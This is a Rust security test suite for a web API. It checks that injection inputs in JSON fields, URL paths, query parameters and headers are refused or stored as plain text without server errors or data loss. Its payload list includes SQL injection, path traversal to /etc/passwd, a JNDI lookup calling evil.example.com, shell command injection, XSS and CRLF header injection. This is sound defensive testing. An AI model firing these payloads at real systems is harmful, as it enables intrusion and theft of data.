//! Attacks with text that means something elsewhere: to SQL, to a file system, to a shell, to a template. Wherever the
//! application reads text it is refused, or text and nothing more.

use flow_system_tests::{
    Client, Host, HostOptions, Stored,
    accounts::{PASSWORD, SignedIn, login, member, registration, visitor},
    attacks::{Route, attempt_routes, everybody_pays, operator_routes},
    raw,
};
use serde_json::{Value, json};

/// Text that does harm where it is not taken as text.
const HARMFUL: [&str; 32] = [
    "'",
    "\"",
    "`",
    "\\",
    "';--",
    "' OR '1'='1",
    "') OR ('1'='1",
    "' OR 1=1 LIMIT 1 --",
    "'; DROP TABLE attempts; --",
    "1; DELETE FROM accounts",
    "' UNION SELECT password_hash FROM accounts --",
    "'||(SELECT password_hash FROM accounts)||'",
    "%",
    "_%_",
    "?1",
    ":id",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "\0",
    "%00",
    "%27%20OR%201=1",
    "${jndi:ldap://evil.example.com/a}",
    "{{7*7}}",
    "$(touch /tmp/attacked)",
    "| touch /tmp/attacked",
    "<script>alert(1)</script>",
    "\r\nset-cookie: a=b",
    "%s%n%x",
    "\u{202e}\u{feff}🧘",
    "__proto__",
];

/// An id that nothing has.
const NOTHING: &str = "0193e7b0-1c5a-7000-8000-0123456789ab";

/// Everything that takes JSON, with a body that is in order but for what a field of it will hold.
fn bodies() -> Vec<(&'static str, Route, Value)> {
    let email = json!({ "email": "nobody@example.org" });
    let token = json!({ "token": "A".repeat(43) });
    let reset = json!({ "token": "A".repeat(43), "password": "ten brisk otters" });
    let attempt = json!({
        "test": "overhead-squat", "contentType": "video/mp4", "sizeBytes": 1000, "sha256": "0".repeat(64),
    });
    let wrong = "not the password";
    let own = |path| Route::new("POST", path);
    vec![
        (
            "visitor",
            own("/api/auth/register"),
            registration("new@example.org", PASSWORD),
        ),
        (
            "visitor",
            own("/api/auth/login"),
            json!({ "email": "ann@example.org", "password": wrong }),
        ),
        ("visitor", own("/api/auth/forgot"), email.clone()),
        ("visitor", own("/api/auth/verify/resend"), email),
        ("visitor", own("/api/auth/verify"), token.clone()),
        ("visitor", own("/api/auth/change-email"), token),
        ("visitor", own("/api/auth/reset"), reset),
        ("member", own("/api/attempts"), attempt),
        (
            "member",
            Route::new("PATCH", "/api/account"),
            json!({ "timeZone": "Europe/Berlin" }),
        ),
        (
            "member",
            own("/api/account/password"),
            json!({ "password": wrong, "newPassword": "ten brisk otters" }),
        ),
        (
            "member",
            own("/api/account/email"),
            json!({ "password": wrong, "newEmail": "new@example.org" }),
        ),
        ("member", own("/api/account/delete"), json!({ "password": wrong })),
        (
            "operator",
            own("/api/ops/bans/nothing/lift"),
            json!({ "reason": "because" }),
        ),
        (
            "operator",
            Route::new("PUT", format!("/api/ops/accounts/{NOTHING}/tier")),
            json!({ "tier": "pro", "endsAt": "2030-01-31T00:00:00Z", "nextTier": "free" }),
        ),
    ]
}

/// The addresses of an object's fields, those inside of others too.
fn fields(body: &Value, before: &str) -> Vec<String> {
    let members = body.as_object().into_iter().flatten();
    members
        .flat_map(|(name, value)| {
            let pointer = format!("{before}/{name}");
            if value.is_object() {
                fields(value, &pointer)
            } else {
                vec![pointer]
            }
        })
        .collect()
}

struct People {
    host: Host,
    ann: SignedIn,
    operator: Client,
}

fn people() -> People {
    let host = Host::start(HostOptions::default());
    let ann = member(&host, "ann@example.org");
    everybody_pays(&host);
    let operator = visitor(&host).with("authorization", "Bearer t0ken");
    People { host, ann, operator }
}

/// That nothing of what was there is gone or changed; new accounts and mails to them may have come.
fn assert_nothing_lost(before: &Stored, host: &Host) {
    let changes = before.changes(host);
    let added = ["accounts", "consents", "mail_tokens", "mails"];
    let unexpected: Vec<&String> = changes
        .iter()
        .filter(|line| {
            !added
                .iter()
                .any(|table| line.starts_with(&format!("+ database: {table}: ")))
        })
        .collect();
    assert_eq!(unexpected, Vec::<&String>::new());
}

#[test]
fn in_a_field_it_is_refused_or_text() {
    let People { host, ann, operator } = people();
    let before = Stored::in_host(&host);
    let mut number = 0;
    // Visitors last: while the clock moves for them, who is signed in is signed out.
    let mut bodies = bodies();
    bodies.sort_by_key(|(who, ..)| *who == "visitor");
    for (who, route, body) in bodies {
        for field in fields(&body, "") {
            // Where a password is hashed first, some will do.
            let hashed = route.path.starts_with("/api/account/") || field == "/password";
            let every = if hashed { 4 } else { 1 };
            for harmful in HARMFUL.into_iter().step_by(every) {
                let texts = match field.as_str() {
                    "/email" | "/newEmail" => vec![
                        harmful.to_owned(),
                        format!("{harmful}@example.org"),
                        format!("a@{harmful}.org"),
                    ],
                    "/password" => vec![format!("{harmful} and more")],
                    _ => vec![harmful.to_owned()],
                };
                for text in texts {
                    number += 1;
                    let client = match who {
                        "member" => &ann.client,
                        "operator" => &operator,
                        _ => &visitor(&host),
                    };
                    let mut body = body.clone();
                    *body.pointer_mut(&field).expect("a field") = text.clone().into();
                    if field == "/password" && route.path.ends_with("register") {
                        body["email"] = format!("person{number}@example.org").into();
                    }
                    let answer = route.clone().with(&body).call(client);
                    let case = format!(
                        "{} {field} {text:?}: {} {}",
                        route.name(),
                        answer.status,
                        answer.json()
                    );
                    assert!(answer.status < 500, "{case}");
                    let taken =
                        field == "/password" && route.path.ends_with("register") || text.contains('@');
                    assert!(
                        (400..500).contains(&answer.status) || answer.status == 202 && taken,
                        "{case}"
                    );
                    // What was tried is forgotten.
                    if who == "visitor" {
                        host.advance_clock(3600);
                    } else if number % 8 == 0 {
                        host.change("DELETE FROM throttles");
                    }
                }
            }
        }
    }
    assert_nothing_lost(&before, &host);
    // A password that harms is a password, letter by letter.
    let client = visitor(&host);
    let harmful = "'; DROP TABLE attempts; -- and more";
    let email = "'--@example.org";
    assert_eq!(
        client
            .post("/api/auth/register", &registration(email, harmful))
            .status,
        202
    );
    assert_eq!(login(&client, email, harmful).status, 200);
    assert_eq!(
        login(&client, email, &harmful.replace('\'', "''")).problem(),
        "wrong-credentials"
    );
    let signed_in = SignedIn::from(&client, &login(&client, email, harmful));
    assert_eq!(signed_in.client.get("/api/account").json()["email"], email);
    // The same of a reason.
    host.change("INSERT INTO bans (id, subject_kind, subject, level, reason, created_at) SELECT 'ban-' || value, 'user', \
         'x', 'permanent', 'over-hundred-tries', 1 FROM json_each(json_array(0,1,2,3,4,5,6,7))");
    for (number, reason) in HARMFUL[4..12].iter().enumerate() {
        let path = format!("/api/ops/bans/ban-{number}/lift");
        let lifted = operator.post(&path, &json!({ "reason": reason }));
        assert_eq!(
            (lifted.status, &lifted.json()["liftReason"]),
            (200, &json!(reason))
        );
    }
}

/// Everything of a text but letters and digits, as addresses write it.
fn escaped(text: &str) -> String {
    let escape = |byte: u8| {
        if byte.is_ascii_alphanumeric() {
            char::from(byte).to_string()
        } else {
            format!("%{byte:02X}")
        }
    };
    text.bytes().map(escape).collect()
}

/// What of a text may stand in an address as it is.
fn bare(text: &str) -> String {
    text.chars()
        .filter(|c| c.is_ascii_graphic() && !"#?<>`\\^\"".contains(*c))
        .collect()
}

#[test]
fn in_an_address_it_finds_nothing() {
    let People { host, ann, operator } = people();
    let attempt = ann.client.create(&[0; 1000]).json()["id"]
        .as_str()
        .expect("an id")
        .to_owned();
    host.change(
        "INSERT INTO bans (id, subject_kind, subject, level, reason, created_at) \
         VALUES ('ban-1', 'user', 'x', 'permanent', 'over-hundred-tries', 1)",
    );
    let before = Stored::in_host(&host);
    for harmful in HARMFUL {
        for text in [
            escaped(harmful),
            bare(harmful),
            format!("{attempt}{}", escaped(harmful)),
        ] {
            let mut routes = attempt_routes(&text, &[0]);
            routes.push(Route::new("DELETE", format!("/api/auth/sessions/{text}")));
            routes.push(Route::new(
                "GET",
                format!("/api/attempts/{attempt}/key-frames/{text}"),
            ));
            routes.push(Route::new(
                "GET",
                format!("/api/attempts/{attempt}/key-frames/{text}.svg"),
            ));
            for route in &routes {
                let answer = route.call(&ann.client);
                assert!(
                    [404, 405, 200].contains(&answer.status),
                    "{}: {}",
                    route.name(),
                    answer.status
                );
                // Slashes make other addresses, and an id alone is one.
                let own = answer.status != 200
                    || answer.json()["items"].is_array()
                    || route.path.ends_with(&attempt);
                assert!(own, "{}: {}", route.name(), answer.json());
            }
            for route in operator_routes(&text)
                .iter()
                .filter(|route| route.path.contains(&text) && !text.is_empty())
            {
                let answer = route.call(&operator);
                assert!(
                    [404, 405].contains(&answer.status),
                    "{}: {}",
                    route.name(),
                    answer.status
                );
            }
            for (path, parameters) in [
                ("/api/attempts", ["cursor", "limit"]),
                ("/api/report.html", ["download", "x"]),
                ("/api/ops/audit", ["event", "subject"]),
                ("/api/ops/audit", ["cursor", "limit"]),
                ("/api/ops/bans", ["subject", "limit"]),
                ("/api/ops/accounts/reseal", ["limit", "x"]),
            ] {
                for name in parameters {
                    let client = if path.contains("/ops/") {
                        &operator
                    } else {
                        &ann.client
                    };
                    let answer = client.get(&format!("{path}?{name}={text}"));
                    assert!(answer.status < 500, "{path} {name} {text}: {}", answer.json());
                    let narrowed = ["event", "subject"].contains(&name) && !text.is_empty();
                    if narrowed {
                        assert_eq!(answer.json()["items"], json!([]), "{path} {name} {text}");
                    }
                }
            }
            for path in ["/api/ops/bans", "/api/ops/dead-letters"] {
                let answer = operator.get(&format!("{path}?cursor={text}"));
                let refused = answer.problem() == "invalid-value";
                assert!(refused || text.is_empty(), "{path} {text}: {}", answer.json());
            }
        }
    }
    before.assert_unchanged(&host, "an address");
}

#[test]
fn in_a_header_it_is_refused_or_text() {
    let People { host, ann, .. } = people();
    let names = [
        "accept",
        "accept-language",
        "authorization",
        "content-type",
        "cookie",
        "host",
        "idempotency-key",
        "if-none-match",
        "origin",
        "referer",
        "sec-fetch-site",
        "spin-client-addr",
        "user-agent",
        "x-dev-tier",
        "x-dev-time-zone",
        "x-dev-user",
        "x-forwarded-for",
        "x-request-id",
    ];
    let calls = ["GET /api/attempts", "POST /api/auth/refresh", "GET /"];
    let before = Stored::in_host(&host);
    for harmful in HARMFUL {
        for name in names {
            for call in calls {
                let request = raw::head(&host, call, &[(name, harmful), ("content-length", "0")]);
                let answer = raw::exchange(&host, &request).expect("an answer");
                assert!(
                    answer.status < 500,
                    "{call} {name} {harmful:?}: {} {}",
                    answer.status,
                    answer.text()
                );
                assert!(
                    !answer.head.contains("\nset-cookie: a=b"),
                    "{call} {name}: {}",
                    answer.head
                );
            }
        }
    }
    before.assert_unchanged(&host, "a header");

    // Kept as it came: a key. Not kept at all: what a client calls itself.
    for key in HARMFUL
        .iter()
        .filter(|text| text.bytes().all(|byte| byte.is_ascii_graphic()))
    {
        let keyed = ann.client.clone().with("idempotency-key", key);
        let made = keyed.create(&[0; 1000]);
        assert_eq!(made.status, 201, "{key}: {}", made.json());
        assert_eq!(keyed.create(&[0; 1000]).json()["id"], made.json()["id"], "{key}");
        let quoted = key.replace('\'', "''");
        assert_eq!(
            host.ask::<u32>(&format!(
                "SELECT count(*) FROM idempotency_keys WHERE key = '{quoted}'"
            )),
            1
        );
    }
    for name in HARMFUL
        .iter()
        .filter(|text| text.bytes().all(|byte| byte >= b' '))
    {
        let device = visitor(&host).with("user-agent", name);
        assert_eq!(login(&device, "ann@example.org", PASSWORD).status, 200, "{name}");
    }
    let labels: String = host.ask(
        "SELECT group_concat(client_label) FROM (SELECT DISTINCT client_label FROM sessions ORDER BY 1)",
    );
    assert_eq!(labels, "Firefox on Linux,Unknown client");
}
